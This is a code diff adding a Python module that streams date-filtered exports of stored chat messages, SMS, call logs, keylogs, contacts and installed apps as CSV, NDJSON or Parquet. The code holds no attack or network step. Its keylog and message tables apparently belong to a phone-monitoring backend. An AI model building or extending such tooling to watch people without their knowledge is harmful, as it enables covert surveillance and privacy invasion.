@@ -0,0 +1,185 @@
+import csv
+import io
+import zlib
+from datetime import datetime, timedelta, timezone
+from sqlalchemy import select, func
+from sqlalchemy.sql import table, column
+from serialization import dumps, STREAM_FETCH_SIZE
+from database_utils import EPOCH_MS_COLUMNS, to_epoch_ms, decoded_table_name
+
+# Table, exported columns and date column of each /export section
+EXPORT_SECTIONS = {
+    "chats": ("chat_messages", ["messenger", "time", "time_dt", "sender", "text", "contact_id"], "time_dt"),
+    "sms": ("sms_messages", ["sms_type", "time", "time_dt", "from_to", "text", "location_id", "contact_id"], "time_dt"),
+    "calls": ("calls", ["call_type", "time", "time_dt", "from_to", "duration", "location_id", "contact_id"], "time_dt"),
+    "keylogs": ("keylogs", ["application", "time", "time_dt", "text"], "time_dt"),
+    "contacts": ("contacts", ["contact_id", "name", "phone_number", "email_id", "last_contacted", "last_contacted_dt"],
+                 "last_contacted_dt"),
+    "installed_apps": ("installedapps", ["application_name", "package_name", "installed_date"], "installed_date")
+}
+EXPORT_FORMATS = {
+    "csv": ("text/csv", "csv"),
+    "ndjson": ("application/x-ndjson", "ndjson"),
+    "parquet": ("application/vnd.apache.parquet", "parquet")
+}
+# installed_date is still stored as text in this format, so bounds in it compare correctly
+STORED_DATETIME_FORMAT = "%Y-%m-%d %H:%M:%S"
+# Epoch-millisecond columns are exported as UTC datetime text in this SQLite strftime format
+EXPORTED_DATETIME_FORMAT = "%Y-%m-%d %H:%M:%f"
+# Exported INTEGER columns besides EPOCH_MS_COLUMNS; typed as int64 in Parquet exports, other columns are text
+INTEGER_COLUMNS = ("contact_id", "location_id", "duration")
+# Formats whose writer takes epoch-millisecond columns as stored rather than as datetime text
+TYPED_DATE_FORMATS = ("parquet",)
+
+
+def parse_export_bound(value, end=False):
+    """Parses a from/to bound (ISO date or datetime) into a naive UTC datetime.
+
+    A date-only end bound covers the whole day. Raises ValueError for anything else.
+    """
+    if not value:
+        return None
+    try:
+        bound = datetime.fromisoformat(value)
+    except ValueError:
+        raise ValueError(f"Invalid date: {value} (expected YYYY-MM-DD or an ISO datetime)")
+    if bound.tzinfo is not None:
+        bound = bound.astimezone(timezone.utc).replace(tzinfo=None)
+    if end and len(value) == 10:
+        bound += timedelta(days=1)
+    return bound
+
+
+def _stored_bound(date_column, bound):
+    """Converts a bound to the storage of date_column, so the comparison can use its index"""
+    if date_column in EPOCH_MS_COLUMNS:
+        return to_epoch_ms(bound)
+    return bound.strftime(STORED_DATETIME_FORMAT)
+
+
+def _export_column(col, format_dates=True):
+    if format_dates and col.name in EPOCH_MS_COLUMNS:
+        # Converted by SQLite while streaming, instead of per row in Python
+        return func.strftime(EXPORTED_DATETIME_FORMAT, col / 1000.0, 'unixepoch').label(col.name)
+    return col
+
+
+def export_query(section, date_from=None, date_to=None, format_dates=True):
+    """Returns (query, column names) selecting a section's rows with date_from <= date < date_to, oldest first.
+
+    Epoch-millisecond columns are selected as UTC datetime text, or as stored if format_dates is False.
+    """
+    table_name, columns, date_column = EXPORT_SECTIONS[section]
+    # Dictionary-encoded columns (messenger, sms_type, ...) are exported as their text
+    export_table = table(decoded_table_name(table_name), *[column(name) for name in columns])
+    date_col = export_table.c[date_column]
+    query = select(*[_export_column(col, format_dates) for col in export_table.c]).select_from(export_table)
+    if date_from is not None:
+        query = query.where(date_col >= _stored_bound(date_column, date_from))
+    if date_to is not None:
+        query = query.where(date_col < _stored_bound(date_column, date_to))
+    return query.order_by(date_col), columns
+
+
+def iter_batches(db_engine, query):
+    """Yields lists of rows from a server-side cursor, STREAM_FETCH_SIZE at a time"""
+    with db_engine.connect() as conn:
+        result = conn.execution_options(stream_results=True).execute(query)
+        for batch in iter(lambda: result.fetchmany(STREAM_FETCH_SIZE), []):
+            yield batch
+
+
+def iter_csv(batches, columns):
+    buffer = io.StringIO()
+    writer = csv.writer(buffer)
+    writer.writerow(columns)
+    for batch in batches:
+        writer.writerows(batch)
+        yield buffer.getvalue().encode()
+        buffer.seek(0)
+        buffer.truncate(0)
+    if buffer.tell():
+        yield buffer.getvalue().encode()
+
+
+def iter_ndjson_rows(batches, columns):
+    for batch in batches:
+        yield b''.join(dumps(dict(zip(columns, row))) + b'\n' for row in batch)
+
+
+class _StreamSink(io.RawIOBase):
+    """Write-only file object handed to the Parquet writer; bytes written are drained after each row group"""
+    def __init__(self):
+        self._chunks = []
+        self._position = 0
+
+    def writable(self):
+        return True
+
+    def write(self, data):
+        self._chunks.append(bytes(data))
+        self._position += len(data)
+        return len(data)
+
+    def tell(self):
+        return self._position
+
+    def drain(self):
+        data = b''.join(self._chunks)
+        self._chunks = []
+        return data
+
+
+def _arrow_type(pa, name):
+    """Parquet type of an exported column: UTC timestamps for epoch milliseconds, int64 for ids and durations"""
+    if name in EPOCH_MS_COLUMNS:
+        return pa.timestamp('ms', tz='UTC')
+    if name in INTEGER_COLUMNS:
+        return pa.int64()
+    return pa.string()
+
+
+def iter_parquet(batches, columns):
+    """Writes each batch as a Parquet row group and yields the encoded bytes as they are produced. Needs pyarrow.
+
+    Epoch-millisecond columns must be selected as stored (export_query(format_dates=False)).
+    """
+    import pyarrow as pa
+    import pyarrow.parquet as pq
+    schema = pa.schema([(name, _arrow_type(pa, name)) for name in columns])
+    sink = _StreamSink()
+    writer = pq.ParquetWriter(sink, schema)
+    for batch in batches:
+        arrays = [pa.array(values if field.type != pa.string() else
+                           [None if value is None else str(value) for value in values], field.type)
+                  for field, values in zip(schema, zip(*batch))]
+        writer.write_table(pa.Table.from_arrays(arrays, schema=schema))
+        yield sink.drain()
+    writer.close()
+    yield sink.drain()
+
+
+EXPORT_WRITERS = {
+    "csv": iter_csv,
+    "ndjson": iter_ndjson_rows,
+    "parquet": iter_parquet
+}
+
+
+def gzip_stream(chunks, level=6):
+    """Compresses a stream of byte chunks into one gzip stream"""
+    compressor = zlib.compressobj(level, zlib.DEFLATED, 31)
+    for chunk in chunks:
+        compressed = compressor.compress(chunk)
+        if compressed:
+            yield compressed
+    yield compressor.flush()
+
+
+def iter_export(db_engine, section, export_format, date_from=None, date_to=None, compress=False):
+    """Yields a section export, encoded in export_format and optionally gzip compressed, in bounded memory."""
+    query, columns = export_query(section, date_from, date_to, format_dates=export_format not in TYPED_DATE_FORMATS)
+    chunks = EXPORT_WRITERS[export_format](iter_batches(db_engine, query), columns)
+    if compress:
+        chunks = gzip_stream(chunks)
+    return chunks